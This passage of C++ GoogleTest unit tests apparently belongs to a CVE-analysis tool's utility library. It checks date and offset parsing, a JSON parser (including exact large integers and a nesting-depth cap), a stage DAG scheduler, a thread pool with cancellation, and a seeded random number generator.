  EXPECT_EQ(format_datetime(*t), "2021-12-10T19:30:05Z");
}

TEST(ParseDate, RejectsMalformed) {
  EXPECT_FALSE(parse_date("").has_value());
  EXPECT_FALSE(parse_date("2021-13-01").has_value());
  EXPECT_FALSE(parse_date("2021-00-10").has_value());
  EXPECT_FALSE(parse_date("2021-1-1").has_value());
  EXPECT_FALSE(parse_date("2021-12-10T25").has_value());
  EXPECT_FALSE(parse_date("not-a-date").has_value());
}

TEST(ParseOffset, PositiveDaysHours) {
  const auto d = parse_offset("90d 12h");
  ASSERT_TRUE(d.has_value());
  EXPECT_EQ(d->total_seconds(), 90 * 86400 + 12 * 3600);
}

TEST(ParseOffset, NegativeZeroDays) {
  // "-0d 7h" means minus seven hours: the sign applies to the whole value.
  const auto d = parse_offset("-0d 7h");
  ASSERT_TRUE(d.has_value());
  EXPECT_EQ(d->total_seconds(), -7 * 3600);
}

TEST(ParseOffset, DaysOnly) {
  const auto d = parse_offset("1d");
  ASSERT_TRUE(d.has_value());
  EXPECT_EQ(d->total_days(), 1.0);
}

TEST(ParseOffset, PlaceholderAndGarbage) {
  EXPECT_FALSE(parse_offset("-").has_value());
  EXPECT_FALSE(parse_offset("").has_value());
  EXPECT_FALSE(parse_offset("12h").has_value());
  EXPECT_FALSE(parse_offset("3x 4h").has_value());
}

TEST(FormatOffset, RoundTripsParseOffset) {
  for (const char* text : {"90d 12h", "-198d 11h", "0d 13h", "-0d 7h", "518d 12h"}) {
    const auto d = parse_offset(text);
    ASSERT_TRUE(d.has_value()) << text;
    EXPECT_EQ(format_offset(*d), text);
  }
}

TEST(DurationArithmetic, Basics) {
  const Duration d = Duration::days(2) + Duration::hours(3);
  EXPECT_EQ(d.total_seconds(), 2 * 86400 + 3 * 3600);
  EXPECT_DOUBLE_EQ((-d).total_days(), -d.total_days());
  EXPECT_LT(Duration::hours(1), Duration::days(1));
}

TEST(TimePointArithmetic, DifferenceAndShift) {
  const TimePoint a = *parse_date("2021-03-01");
  const TimePoint b = *parse_date("2021-03-11");
  EXPECT_DOUBLE_EQ((b - a).total_days(), 10.0);
  EXPECT_EQ(a + Duration::days(10), b);
  EXPECT_TRUE(in_window(a, a, b));
  EXPECT_FALSE(in_window(b, a, b));
}

}  // namespace
}  // namespace cvewb::util
