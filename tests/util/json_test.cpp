#include "util/json.h"

#include <gtest/gtest.h>

namespace cvewb::util {
namespace {

TEST(Json, BuildAndDumpCompact) {
  Json doc{JsonObject{}};
  doc.set("cve", "CVE-2021-44228");
  doc.set("impact", 10.0);
  doc.set("exploited", true);
  doc.set("fix", Json());
  Json events{JsonArray{}};
  events.push_back("P");
  events.push_back(2021);
  doc.set("events", std::move(events));
  EXPECT_EQ(doc.dump(),
            R"({"cve":"CVE-2021-44228","impact":10,"exploited":true,"fix":null,)"
            R"("events":["P",2021]})");
}

TEST(Json, PrettyPrintIndents) {
  Json doc{JsonObject{}};
  doc.set("a", 1);
  const std::string pretty = doc.dump(2);
  EXPECT_NE(pretty.find("{\n  \"a\": 1\n}"), std::string::npos);
}

TEST(Json, EscapesControlAndQuotes) {
  EXPECT_EQ(json_escape("a\"b\\c\nd\te"), "a\\\"b\\\\c\\nd\\te");
  EXPECT_EQ(json_escape(std::string(1, '\x01')), "\\u0001");
}

TEST(Json, ParseRoundTrip) {
  const char* text =
      R"({"schema":"v1","values":[1,2.5,-3e2,true,false,null,"s"],"nested":{"k":"v"}})";
  const auto parsed = parse_json(text);
  ASSERT_TRUE(parsed.has_value());
  const auto reparsed = parse_json(parsed->dump());
  ASSERT_TRUE(reparsed.has_value());
  EXPECT_EQ(*parsed, *reparsed);
  EXPECT_EQ(parsed->find("schema")->as_string(), "v1");
  EXPECT_DOUBLE_EQ(parsed->find("values")->as_array()[2].as_number(), -300.0);
  EXPECT_EQ(parsed->find("nested")->find("k")->as_string(), "v");
}

TEST(Json, ParseUnicodeEscape) {
  const auto parsed = parse_json(R"(["Aé€"])");
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->as_array()[0].as_string(), "A\xc3\xa9\xe2\x82\xac");
}

struct BadJsonCase {
  const char* text;
};
class BadJson : public ::testing::TestWithParam<BadJsonCase> {};

TEST_P(BadJson, Rejected) {
  std::string error;
  EXPECT_FALSE(parse_json(GetParam().text, error).has_value()) << GetParam().text;
  EXPECT_FALSE(error.empty());
}

INSTANTIATE_TEST_SUITE_P(Malformed, BadJson,
                         ::testing::Values(BadJsonCase{""}, BadJsonCase{"{"},
                                           BadJsonCase{"[1,]"}, BadJsonCase{"{\"a\":}"},
                                           BadJsonCase{"{\"a\" 1}"}, BadJsonCase{"tru"},
                                           BadJsonCase{"\"unterminated"},
                                           BadJsonCase{"[1] trailing"},
                                           BadJsonCase{"{\"a\":1,}"}, BadJsonCase{"nan"},
                                           BadJsonCase{"\"bad \\u12\""}),
                         [](const auto& info) { return "case_" + std::to_string(info.index); });

TEST(Json, TypeErrorsThrow) {
  const Json number{1.5};
  EXPECT_THROW(number.as_string(), std::logic_error);
  EXPECT_THROW(number.as_array(), std::logic_error);
  EXPECT_EQ(number.find("x"), nullptr);
  Json array{JsonArray{}};
  EXPECT_THROW(array.set("k", 1), std::logic_error);
}

TEST(Json, NullPromotesToContainerOnMutation) {
  Json object;
  object.set("k", "v");
  EXPECT_EQ(object.type(), Json::Type::kObject);
  Json array;
  array.push_back(1);
  EXPECT_EQ(array.type(), Json::Type::kArray);
}

TEST(Json, IntegersDumpWithoutDecimalPoint) {
  EXPECT_EQ(Json(42).dump(), "42");
  EXPECT_EQ(Json(-7).dump(), "-7");
  EXPECT_EQ(Json(2.5).dump(), "2.5");
}

// Large integers must survive exactly.  Stored as doubles they silently
// corrupt above 2^53: 2^53 + 1 rounds to 2^53, and INT64_MAX rounds to
// 2^63 (not even representable back as int64).
TEST(Json, LargeIntegersSerializeExactly) {
  constexpr std::int64_t k2p53 = 9007199254740992;  // 2^53
  EXPECT_EQ(Json(k2p53).dump(), "9007199254740992");
  EXPECT_EQ(Json(k2p53 + 1).dump(), "9007199254740993");  // double would round
  EXPECT_EQ(Json(k2p53 - 1).dump(), "9007199254740991");
  EXPECT_EQ(Json(-k2p53 - 1).dump(), "-9007199254740993");
  EXPECT_EQ(Json(std::int64_t{9223372036854775807}).dump(), "9223372036854775807");
  EXPECT_EQ(Json(std::int64_t{-9223372036854775807} - 1).dump(), "-9223372036854775808");
}

TEST(Json, IntegerRepresentationAndAccessors) {
  const Json integer{std::int64_t{42}};
  EXPECT_TRUE(integer.is_integer());
  EXPECT_EQ(integer.as_int64(), 42);
  EXPECT_DOUBLE_EQ(integer.as_number(), 42.0);  // double view still works

  const Json from_int{7};
  EXPECT_TRUE(from_int.is_integer());
  EXPECT_EQ(from_int.as_int64(), 7);

  const Json real{2.5};
  EXPECT_FALSE(real.is_integer());
  EXPECT_THROW(real.as_int64(), std::logic_error);
  const Json integral_double{3.0};  // explicit double stays a double
  EXPECT_FALSE(integral_double.is_integer());
  EXPECT_THROW(Json("s").as_int64(), std::logic_error);
}

TEST(Json, IntegerTokensParseExactly) {
  // Round-trip at and beyond the 2^53 boundary.
  for (const char* text :
       {"9007199254740991", "9007199254740992", "9007199254740993", "-9007199254740993",
        "9223372036854775807", "-9223372036854775808", "0", "-1"}) {
    const auto parsed = parse_json(text);
    ASSERT_TRUE(parsed.has_value()) << text;
    EXPECT_TRUE(parsed->is_integer()) << text;
    EXPECT_EQ(parsed->dump(), text);
  }
  // Fractions and exponents stay doubles.
  for (const char* text : {"2.5", "1e3", "-3.25", "1.0"}) {
    const auto parsed = parse_json(text);
    ASSERT_TRUE(parsed.has_value()) << text;
    EXPECT_FALSE(parsed->is_integer()) << text;
  }
  // Integers beyond int64 range degrade to double rather than failing.
  const auto huge = parse_json("99999999999999999999999999");
  ASSERT_TRUE(huge.has_value());
  EXPECT_FALSE(huge->is_integer());
  EXPECT_GT(huge->as_number(), 9.9e25);
}

TEST(Json, MixedNumericEquality) {
  // Same mathematical value compares equal across representations below
  // 2^53; distinct int64 values never collide.
  EXPECT_EQ(Json(std::int64_t{3}), Json(3.0));
  EXPECT_EQ(Json(3.0), Json(std::int64_t{3}));
  constexpr std::int64_t k2p53 = 9007199254740992;
  EXPECT_FALSE(Json(k2p53) == Json(k2p53 + 1));  // doubles would compare equal
  EXPECT_EQ(Json(k2p53), Json(k2p53));

  // Documents round-trip through dump/parse without drift.
  Json doc{JsonObject{}};
  doc.set("big", std::int64_t{9007199254740993});
  const auto reparsed = parse_json(doc.dump());
  ASSERT_TRUE(reparsed.has_value());
  EXPECT_EQ(reparsed->find("big")->as_int64(), 9007199254740993);
  EXPECT_EQ(*reparsed, doc);
}

TEST(Json, NestingAtTheCapParses) {
  // Exactly kJsonMaxParseDepth open containers is legal and round-trips.
  std::string text;
  for (int i = 0; i < kJsonMaxParseDepth; ++i) text += '[';
  text += "7";
  for (int i = 0; i < kJsonMaxParseDepth; ++i) text += ']';
  const auto parsed = parse_json(text);
  ASSERT_TRUE(parsed.has_value());
  const Json* inner = &*parsed;
  for (int i = 0; i < kJsonMaxParseDepth; ++i) {
    ASSERT_EQ(inner->type(), Json::Type::kArray);
    ASSERT_EQ(inner->as_array().size(), 1u);
    inner = &inner->as_array()[0];
  }
  EXPECT_EQ(inner->as_int64(), 7);
}

TEST(Json, NestingPastTheCapIsAParseErrorNotAStackOverflow) {
  // A few bytes of hostile input per stack frame: without the depth cap
  // this recursive-descent parse would overflow the stack long before the
  // 100k mark.  With it, the parse fails with a structured error.
  for (const char open : {'[', '{'}) {
    std::string text(100'000, open);
    if (open == '{') {
      // Keep each level structurally valid up to the point of failure.
      text.clear();
      for (int i = 0; i < 100'000; ++i) text += R"({"k":)";
    }
    std::string error;
    const auto parsed = parse_json(text, error);
    EXPECT_FALSE(parsed.has_value());
    EXPECT_NE(error.find("nesting too deep"), std::string::npos) << error;
  }
  // One past the cap fails the same way.
  std::string text(static_cast<std::size_t>(kJsonMaxParseDepth) + 1, '[');
  text += "1";
  std::string error;
  EXPECT_FALSE(parse_json(text, error).has_value());
  EXPECT_NE(error.find("nesting too deep"), std::string::npos) << error;
}

}  // namespace
}  // namespace cvewb::util
