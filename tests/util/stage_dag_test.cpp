// StageDag property tests: the dependency-driven stage executor behind
// run_study's overlapping schedule.  The properties that make overlap a
// pure scheduling change -- no node before its dependencies, failures
// skip exactly the transitive dependents, the lowest-id failure is the
// one rethrown, cancellation fails nodes at their start -- are checked
// over randomized DAG topologies at several pool widths, including the
// inline (pool-less) scheduler the sequential path uses.
#include "util/stage_dag.h"

#include <gtest/gtest.h>

#include <atomic>
#include <mutex>
#include <set>
#include <stdexcept>
#include <vector>

#include "util/cancel.h"
#include "util/rng.h"
#include "util/thread_pool.h"

namespace cvewb::util {
namespace {

struct PoolCase {
  const char* name;
  unsigned workers;  // 0 = no pool (inline scheduler)
};

class StageDagPools : public ::testing::TestWithParam<PoolCase> {
 protected:
  ThreadPool* pool() {
    if (GetParam().workers == 0) return nullptr;
    storage_.emplace(GetParam().workers);
    return &*storage_;
  }

 private:
  std::optional<ThreadPool> storage_;
};

TEST_P(StageDagPools, RunsEveryNodeExactlyOnceRespectingDependencies) {
  ThreadPool* pool = this->pool();
  // 30 random topologies; each node asserts every dependency finished
  // before it started (the core safety property of the scheduler).
  for (std::uint64_t seed = 1; seed <= 30; ++seed) {
    Rng rng(seed);
    const std::size_t n = 2 + static_cast<std::size_t>(rng.uniform_u64(14));
    StageDag dag(pool);
    std::vector<std::unique_ptr<std::atomic<bool>>> done;
    std::vector<std::vector<StageDag::NodeId>> deps_of(n);
    std::atomic<int> runs{0};
    for (std::size_t i = 0; i < n; ++i) {
      done.push_back(std::make_unique<std::atomic<bool>>(false));
      std::vector<StageDag::NodeId> deps;
      for (std::size_t d = 0; d < i; ++d) {
        if (rng.uniform_u64(100) < 35) deps.push_back(d);
      }
      deps_of[i] = deps;
      dag.add("node" + std::to_string(i), [&, i] {
        for (const StageDag::NodeId dep : deps_of[i]) {
          EXPECT_TRUE(done[dep]->load()) << "node " << i << " ran before dep " << dep;
        }
        done[i]->store(true);
        runs.fetch_add(1);
      }, deps);
    }
    dag.run();
    EXPECT_EQ(runs.load(), static_cast<int>(n)) << "seed " << seed;
    for (std::size_t i = 0; i < n; ++i) {
      EXPECT_EQ(dag.state(i), StageDag::NodeState::done) << "seed " << seed;
    }
  }
}

TEST_P(StageDagPools, FailureSkipsExactlyTheTransitiveDependents) {
  ThreadPool* pool = this->pool();
  for (std::uint64_t seed = 1; seed <= 30; ++seed) {
    Rng rng(seed * 7919);
    const std::size_t n = 3 + static_cast<std::size_t>(rng.uniform_u64(12));
    const std::size_t bomb = rng.uniform_u64(n);
    StageDag dag(pool);
    std::vector<std::vector<StageDag::NodeId>> deps_of(n);
    for (std::size_t i = 0; i < n; ++i) {
      std::vector<StageDag::NodeId> deps;
      for (std::size_t d = 0; d < i; ++d) {
        if (rng.uniform_u64(100) < 35) deps.push_back(d);
      }
      deps_of[i] = deps;
      dag.add("node" + std::to_string(i), [i, bomb] {
        if (i == bomb) throw std::runtime_error("bomb node " + std::to_string(i));
      }, deps);
    }
    // Reference answer: transitive closure of dependents of `bomb`.
    std::set<std::size_t> expect_skipped;
    for (std::size_t i = bomb + 1; i < n; ++i) {
      for (const StageDag::NodeId dep : deps_of[i]) {
        if (dep == bomb || expect_skipped.count(dep) > 0) {
          expect_skipped.insert(i);
          break;
        }
      }
    }
    EXPECT_THROW(dag.run(), std::runtime_error) << "seed " << seed;
    for (std::size_t i = 0; i < n; ++i) {
      const StageDag::NodeState state = dag.state(i);
      if (i == bomb) {
        EXPECT_EQ(state, StageDag::NodeState::failed) << "seed " << seed << " node " << i;
      } else if (expect_skipped.count(i) > 0) {
        EXPECT_EQ(state, StageDag::NodeState::skipped) << "seed " << seed << " node " << i;
      } else {
        // Unrelated branches run to completion despite the failure.
        EXPECT_EQ(state, StageDag::NodeState::done) << "seed " << seed << " node " << i;
      }
    }
  }
}

TEST_P(StageDagPools, LowestIdFailureIsTheOneRethrown) {
  ThreadPool* pool = this->pool();
  StageDag dag(pool);
  // Two independent bombs; the sequential order would have surfaced the
  // lower id first, so that is the exception run() must rethrow at every
  // thread count.
  dag.add("a", [] { throw std::runtime_error("first"); });
  dag.add("b", [] {});
  dag.add("c", [] { throw std::logic_error("second"); });
  try {
    dag.run();
    FAIL() << "run() should have rethrown";
  } catch (const std::runtime_error& error) {
    EXPECT_STREQ(error.what(), "first");
  }
  EXPECT_EQ(dag.state(0), StageDag::NodeState::failed);
  EXPECT_EQ(dag.state(1), StageDag::NodeState::done);
  EXPECT_EQ(dag.state(2), StageDag::NodeState::failed);
}

TEST_P(StageDagPools, CancellationFailsNodesAtTheirStart) {
  ThreadPool* pool = this->pool();
  CancelToken cancel;
  StageDag dag(pool, &cancel);
  std::atomic<int> late_runs{0};
  // Node 0 fires the token; its dependents must observe the cancellation
  // at their start checkpoint and never run their bodies.
  const auto root = dag.add("trigger", [&cancel] { cancel.request_cancel(); });
  const auto mid = dag.add("mid", [&late_runs] { late_runs.fetch_add(1); }, {root});
  dag.add("leaf", [&late_runs] { late_runs.fetch_add(1); }, {mid});
  EXPECT_THROW(dag.run(), CancelledError);
  EXPECT_EQ(late_runs.load(), 0);
  EXPECT_EQ(dag.state(0), StageDag::NodeState::done);
  EXPECT_EQ(dag.state(1), StageDag::NodeState::failed);  // cancelled at start
  EXPECT_EQ(dag.state(2), StageDag::NodeState::skipped);
}

TEST_P(StageDagPools, DeadlineExpiryPropagatesLikeCancellation) {
  ThreadPool* pool = this->pool();
  CancelToken cancel;
  cancel.arm_deadline(std::chrono::steady_clock::now());  // already expired
  StageDag dag(pool, &cancel);
  std::atomic<int> runs{0};
  dag.add("a", [&runs] { runs.fetch_add(1); });
  try {
    dag.run();
    FAIL() << "run() should have thrown CancelledError";
  } catch (const CancelledError& error) {
    EXPECT_EQ(error.reason(), CancelReason::kDeadline);
  }
  EXPECT_EQ(runs.load(), 0);
}

TEST_P(StageDagPools, NodesMayFanOutOnTheSamePool) {
  ThreadPool* pool = this->pool();
  // Each DAG node itself shards work onto the same pool -- exactly what
  // the reconstruct stage does.  Helping waits make this deadlock-free
  // even when every worker is occupied by a DAG node.
  StageDag dag(pool);
  std::atomic<int> total{0};
  for (int node = 0; node < 4; ++node) {
    dag.add("fanout" + std::to_string(node), [&total, pool] {
      for_each_shard(pool, 8, [&total](std::size_t) { total.fetch_add(1); });
    });
  }
  dag.run();
  EXPECT_EQ(total.load(), 32);
}

INSTANTIATE_TEST_SUITE_P(Pools, StageDagPools,
                         ::testing::Values(PoolCase{"inline", 0}, PoolCase{"one_worker", 1},
                                           PoolCase{"four_workers", 4},
                                           PoolCase{"eight_workers", 8}),
                         [](const auto& info) { return std::string(info.param.name); });

TEST(StageDag, RejectsForwardAndSelfDependencies) {
  StageDag dag(nullptr);
  const auto a = dag.add("a", [] {});
  EXPECT_THROW(dag.add("bad", [] {}, {a + 1}), std::invalid_argument);  // forward
  EXPECT_THROW(dag.add("bad", [] {}, {99}), std::invalid_argument);     // unknown
  dag.add("b", [] {}, {a});
}

TEST(StageDag, RunIsSingleShot) {
  StageDag dag(nullptr);
  dag.add("a", [] {});
  dag.run();
  EXPECT_THROW(dag.run(), std::logic_error);
}

TEST(StageDag, StatesVisibleBeforeRun) {
  StageDag dag(nullptr);
  const auto a = dag.add("a", [] {});
  EXPECT_EQ(dag.state(a), StageDag::NodeState::pending);
  EXPECT_EQ(dag.name(a), "a");
  EXPECT_EQ(dag.node_count(), 1u);
}

}  // namespace
}  // namespace cvewb::util
