// Property tests for the work-queue executor: every submitted task runs
// exactly once, exceptions propagate to the caller (and for_each_shard
// surfaces the lowest-indexed failure), and destruction drains the queue.
// This suite carries the `tsan` ctest label; build with
// CVEWB_SANITIZE=thread to run it under ThreadSanitizer.
#include "util/thread_pool.h"

#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <mutex>
#include <numeric>
#include <stdexcept>
#include <thread>
#include <vector>

#include "util/cancel.h"

namespace cvewb::util {
namespace {

// Gate that lets a test hold worker threads hostage at a known point and
// release them deterministically.
struct Gate {
  std::mutex mutex;
  std::condition_variable cv;
  bool open = false;
  int waiting = 0;

  void wait_open() {
    std::unique_lock lock(mutex);
    ++waiting;
    cv.notify_all();
    cv.wait(lock, [this] { return open; });
  }
  void wait_for_waiters(int n) {
    std::unique_lock lock(mutex);
    cv.wait(lock, [this, n] { return waiting >= n; });
  }
  void release() {
    std::unique_lock lock(mutex);
    open = true;
    cv.notify_all();
  }
};

TEST(ThreadPool, EveryTaskRunsExactlyOnce) {
  constexpr std::size_t kTasks = 256;
  std::vector<std::atomic<int>> executions(kTasks);
  ThreadPool pool(4);
  std::vector<std::future<std::size_t>> futures;
  futures.reserve(kTasks);
  for (std::size_t i = 0; i < kTasks; ++i) {
    futures.push_back(pool.submit([&executions, i] {
      executions[i].fetch_add(1, std::memory_order_relaxed);
      return i;
    }));
  }
  for (std::size_t i = 0; i < kTasks; ++i) {
    EXPECT_EQ(futures[i].get(), i);  // result routed to the right caller
  }
  for (std::size_t i = 0; i < kTasks; ++i) {
    EXPECT_EQ(executions[i].load(), 1) << "task " << i;
  }
}

TEST(ThreadPool, ExceptionPropagatesThroughFuture) {
  ThreadPool pool(2);
  auto ok = pool.submit([] { return 41 + 1; });
  auto bad = pool.submit([]() -> int { throw std::runtime_error("shard failure"); });
  EXPECT_EQ(ok.get(), 42);
  EXPECT_THROW(bad.get(), std::runtime_error);
  // The pool survives a throwing task.
  EXPECT_EQ(pool.submit([] { return 7; }).get(), 7);
}

TEST(ThreadPool, ForEachShardRethrowsLowestIndexedFailure) {
  ThreadPool pool(4);
  for (int round = 0; round < 10; ++round) {
    std::atomic<int> ran{0};
    try {
      for_each_shard(&pool, 32, [&ran](std::size_t shard) {
        ran.fetch_add(1, std::memory_order_relaxed);
        if (shard == 5 || shard == 20) {
          throw std::runtime_error("shard " + std::to_string(shard));
        }
      });
      FAIL() << "for_each_shard must rethrow";
    } catch (const std::runtime_error& e) {
      // Lowest-indexed failure regardless of which worker ran it first.
      EXPECT_STREQ(e.what(), "shard 5");
    }
    EXPECT_EQ(ran.load(), 32);  // a failing shard never cancels the rest
  }
}

TEST(ThreadPool, ForEachShardFailureIsThreadCountIndependent) {
  // The same multi-failure workload must surface the same exception at
  // every pool width (inline included): the lowest-indexed failing shard.
  const auto run = [](ThreadPool* pool) -> std::string {
    try {
      for_each_shard(pool, 24, [](std::size_t shard) {
        if (shard % 7 == 3) throw std::runtime_error("shard " + std::to_string(shard));
      });
    } catch (const std::runtime_error& e) {
      return e.what();
    }
    return "no exception";
  };
  EXPECT_EQ(run(nullptr), "shard 3");
  for (unsigned threads : {2u, 4u, 8u}) {
    ThreadPool pool(threads);
    for (int round = 0; round < 5; ++round) EXPECT_EQ(run(&pool), "shard 3") << threads;
  }
}

TEST(ThreadPool, QueuedTasksObserveCancelToken) {
  CancelToken token;
  Gate gate;
  ThreadPool pool(1, &token);
  // The blocker occupies the only worker; everything behind it is queued
  // and must observe the token at pickup, not run to completion.
  auto blocker = pool.submit([&gate] { gate.wait_open(); });
  std::vector<std::future<int>> queued;
  std::atomic<int> ran{0};
  for (int i = 0; i < 8; ++i) {
    queued.push_back(pool.submit([&ran, i] {
      ran.fetch_add(1, std::memory_order_relaxed);
      return i;
    }));
  }
  gate.wait_for_waiters(1);
  token.request_cancel();
  gate.release();
  EXPECT_NO_THROW(blocker.get());  // already running: finishes normally
  for (auto& future : queued) {
    // Every queued future is still satisfied -- with CancelledError, never
    // a broken promise or a hang.
    EXPECT_THROW(future.get(), CancelledError);
  }
  EXPECT_EQ(ran.load(), 0);
}

TEST(ThreadPool, ForEachShardCancelSurfacesAsCancelledError) {
  // Inline path: the token fires inside shard 2; shard 3 never starts.
  CancelToken inline_token;
  std::vector<std::size_t> ran;
  try {
    for_each_shard(
        nullptr, 8,
        [&](std::size_t shard) {
          ran.push_back(shard);
          if (shard == 2) inline_token.request_cancel();
        },
        &inline_token);
    FAIL() << "must rethrow CancelledError";
  } catch (const CancelledError& e) {
    EXPECT_EQ(e.reason(), CancelReason::kUser);
  }
  EXPECT_EQ(ran, (std::vector<std::size_t>{0, 1, 2}));

  // Pooled path: a pre-fired token stops every shard before it starts.
  CancelToken pool_token;
  pool_token.request_cancel();
  ThreadPool pool(4, &pool_token);
  std::atomic<int> started{0};
  EXPECT_THROW(
      for_each_shard(
          &pool, 16,
          [&](std::size_t) { started.fetch_add(1, std::memory_order_relaxed); }, &pool_token),
      CancelledError);
  EXPECT_EQ(started.load(), 0);
}

TEST(ThreadPool, ForEachShardInlineWithoutPool) {
  std::vector<std::size_t> order;
  for_each_shard(nullptr, 8, [&order](std::size_t shard) { order.push_back(shard); });
  ASSERT_EQ(order.size(), 8u);
  for (std::size_t i = 0; i < order.size(); ++i) EXPECT_EQ(order[i], i);
}

TEST(ThreadPool, DestructionDrainsQueuedTasks) {
  std::atomic<std::size_t> completed{0};
  constexpr std::size_t kTasks = 128;
  {
    ThreadPool pool(2);
    for (std::size_t i = 0; i < kTasks; ++i) {
      pool.submit([&completed] { completed.fetch_add(1, std::memory_order_relaxed); });
    }
    // No waiting: the destructor must finish the backlog, not drop it.
  }
  EXPECT_EQ(completed.load(), kTasks);
}

TEST(ThreadPool, ZeroMeansHardwareConcurrency) {
  ThreadPool pool(0);
  EXPECT_GE(pool.size(), 1u);
}

TEST(ThreadPool, ShardCount) {
  EXPECT_EQ(shard_count(0, 100), 0u);
  EXPECT_EQ(shard_count(1, 100), 1u);
  EXPECT_EQ(shard_count(100, 100), 1u);
  EXPECT_EQ(shard_count(101, 100), 2u);
  EXPECT_EQ(shard_count(5, 0), 1u);  // degenerate per-shard size
}

// The completed/task_run_us updates land just *after* a task's future
// resolves (the worker re-locks to record them), so tests spin briefly for
// the counters to catch up instead of asserting immediately.
ThreadPoolStats wait_for_completed(const ThreadPool& pool, std::uint64_t n) {
  ThreadPoolStats stats = pool.stats();
  while (stats.completed < n) {
    std::this_thread::yield();
    stats = pool.stats();
  }
  return stats;
}

TEST(ThreadPoolStats, QueueDepthTracksSubmittedMinusStarted) {
  Gate gate;
  std::vector<std::future<void>> futures;
  {
    ThreadPool pool(2);
    // Two tasks occupy both workers; three more sit in the queue.
    for (int i = 0; i < 5; ++i) {
      futures.push_back(pool.submit([&gate] { gate.wait_open(); }));
    }
    gate.wait_for_waiters(2);  // both workers parked inside a task

    const ThreadPoolStats blocked = pool.stats();
    EXPECT_EQ(blocked.submitted, 5u);
    EXPECT_EQ(blocked.completed, 0u);
    EXPECT_EQ(blocked.in_flight(), 5u);
    // Reported depth is exactly submitted minus completed minus the two
    // running tasks.
    EXPECT_EQ(blocked.queue_depth, 3u);
    EXPECT_GE(blocked.max_queue_depth, 3u);
    EXPECT_LE(blocked.max_queue_depth, 5u);
    EXPECT_EQ(blocked.worker_idle_us.size(), 2u);

    gate.release();
    for (auto& future : futures) future.get();

    const ThreadPoolStats drained = wait_for_completed(pool, 5);
    EXPECT_EQ(drained.submitted, 5u);
    EXPECT_EQ(drained.completed, 5u);
    EXPECT_EQ(drained.in_flight(), 0u);
    EXPECT_EQ(drained.queue_depth, 0u);
    EXPECT_GE(drained.max_queue_depth, 3u);
  }
}

TEST(ThreadPoolStats, IdleAndRunTimeAccumulate) {
  ThreadPool pool(2);
  // Let the workers idle a moment, then give them measurable work.
  std::this_thread::sleep_for(std::chrono::milliseconds(20));
  std::vector<std::future<void>> futures;
  for (int i = 0; i < 4; ++i) {
    futures.push_back(
        pool.submit([] { std::this_thread::sleep_for(std::chrono::milliseconds(5)); }));
  }
  for (auto& future : futures) future.get();

  const ThreadPoolStats stats = wait_for_completed(pool, 4);
  EXPECT_EQ(stats.completed, 4u);
  // 4 tasks x ~5 ms each; generous lower bound to stay robust on loaded
  // CI machines.
  EXPECT_GE(stats.task_run_us, 4u * 3000u);
  // Both workers idled through the initial 20 ms sleep.
  EXPECT_GE(stats.idle_us_total(), 2u * 10000u);
  ASSERT_EQ(stats.worker_idle_us.size(), 2u);
  for (const auto idle : stats.worker_idle_us) EXPECT_GT(idle, 0u);
}

TEST(ThreadPoolStats, WaitTimeCountsQueueLatency) {
  Gate gate;
  ThreadPool pool(1);
  auto blocker = pool.submit([&gate] { gate.wait_open(); });
  gate.wait_for_waiters(1);
  // This task must sit in the queue while the blocker holds the worker.
  auto queued = pool.submit([] {});
  std::this_thread::sleep_for(std::chrono::milliseconds(10));
  gate.release();
  blocker.get();
  queued.get();
  const ThreadPoolStats stats = wait_for_completed(pool, 2);
  EXPECT_EQ(stats.completed, 2u);
  EXPECT_GE(stats.task_wait_us, 5000u);  // the queued task waited ~10 ms
}

// Stress loop: rapid create/submit/destroy cycles.  Mostly interesting
// under CVEWB_SANITIZE=thread, where TSan checks every handoff.
TEST(ThreadPool, StressCreateSubmitDestroy) {
  for (int round = 0; round < 100; ++round) {
    std::atomic<std::uint64_t> sum{0};
    ThreadPool pool(4);
    std::vector<std::future<void>> futures;
    futures.reserve(64);
    for (std::uint64_t i = 0; i < 64; ++i) {
      futures.push_back(
          pool.submit([&sum, i] { sum.fetch_add(i, std::memory_order_relaxed); }));
    }
    for (auto& future : futures) future.get();
    EXPECT_EQ(sum.load(), 64ull * 63ull / 2ull);
  }
}

}  // namespace
}  // namespace cvewb::util
