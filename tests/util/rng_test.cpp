#include "util/rng.h"

#include <gtest/gtest.h>

#include <cmath>
#include <set>

namespace cvewb::util {
namespace {

TEST(Rng, DeterministicForSeed) {
  Rng a(42);
  Rng b(42);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.next(), b.next());
}

TEST(Rng, DifferentSeedsDiverge) {
  Rng a(1);
  Rng b(2);
  int same = 0;
  for (int i = 0; i < 64; ++i) same += a.next() == b.next() ? 1 : 0;
  EXPECT_LT(same, 2);
}

TEST(Rng, UniformInUnitInterval) {
  Rng rng(7);
  double sum = 0;
  for (int i = 0; i < 10000; ++i) {
    const double u = rng.uniform();
    ASSERT_GE(u, 0.0);
    ASSERT_LT(u, 1.0);
    sum += u;
  }
  EXPECT_NEAR(sum / 10000, 0.5, 0.02);
}

TEST(Rng, UniformIntCoversRangeInclusive) {
  Rng rng(7);
  std::set<std::int64_t> seen;
  for (int i = 0; i < 1000; ++i) seen.insert(rng.uniform_int(-2, 3));
  EXPECT_EQ(seen.size(), 6u);
  EXPECT_EQ(*seen.begin(), -2);
  EXPECT_EQ(*seen.rbegin(), 3);
}

TEST(Rng, ExponentialMeanMatches) {
  Rng rng(11);
  double sum = 0;
  constexpr int kN = 20000;
  for (int i = 0; i < kN; ++i) sum += rng.exponential(5.0);
  EXPECT_NEAR(sum / kN, 5.0, 0.15);
}

TEST(Rng, ExponentialRejectsNonPositiveMean) {
  Rng rng(1);
  EXPECT_THROW(rng.exponential(0.0), std::invalid_argument);
  EXPECT_THROW(rng.exponential(-1.0), std::invalid_argument);
}

TEST(Rng, NormalMoments) {
  Rng rng(13);
  double sum = 0;
  double ss = 0;
  constexpr int kN = 20000;
  for (int i = 0; i < kN; ++i) {
    const double v = rng.normal(2.0, 3.0);
    sum += v;
    ss += v * v;
  }
  const double mean = sum / kN;
  EXPECT_NEAR(mean, 2.0, 0.1);
  EXPECT_NEAR(std::sqrt(ss / kN - mean * mean), 3.0, 0.1);
}

TEST(Rng, WeightedIndexRespectsWeights) {
  Rng rng(17);
  const std::vector<double> weights = {1.0, 0.0, 3.0};
  int counts[3] = {0, 0, 0};
  for (int i = 0; i < 8000; ++i) ++counts[rng.weighted_index(weights)];
  EXPECT_EQ(counts[1], 0);
